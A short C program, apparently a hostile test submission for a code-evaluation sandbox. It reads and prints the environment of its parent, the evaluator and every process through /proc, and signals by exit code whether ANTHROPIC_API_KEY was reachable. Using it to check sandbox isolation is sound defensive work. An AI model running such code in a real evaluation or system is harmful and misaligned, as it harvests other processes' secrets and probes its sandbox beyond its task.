/* Hostile answer: prints every environment it can read through /proc
 * (its parent's, the evaluator's, pid 1's, every process's) and exits with
 * status 42 when one holds ANTHROPIC_API_KEY, 7 when none does: the verdict
 * shows whether the key was in reach. */
#include <dirent.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int found;

static void dump(const char *path)
{
	char buf[8192];
	FILE *f = fopen(path, "rb");
	size_t n;

	if (!f)
		return;
	n = fread(buf, 1, sizeof buf - 1, f);
	fclose(f);
	for (size_t i = 0; i < n; i++)
		if (buf[i] == 0)
			buf[i] = ' ';
	buf[n] = 0;
	if (strstr(buf, "ANTHROPIC_API_KEY="))
		found = 1;
	printf("%s: %s\n", path, buf);
}

int main(void)
{
	char path[64];
	DIR *d = opendir("/proc");
	struct dirent *e;

	snprintf(path, sizeof path, "/proc/%d/environ", (int)getppid());
	dump(path);
	while (d && (e = readdir(d)) != NULL) {
		snprintf(path, sizeof path, "/proc/%.20s/environ", e->d_name);
		dump(path);
	}
	return found ? 42 : 7;
}
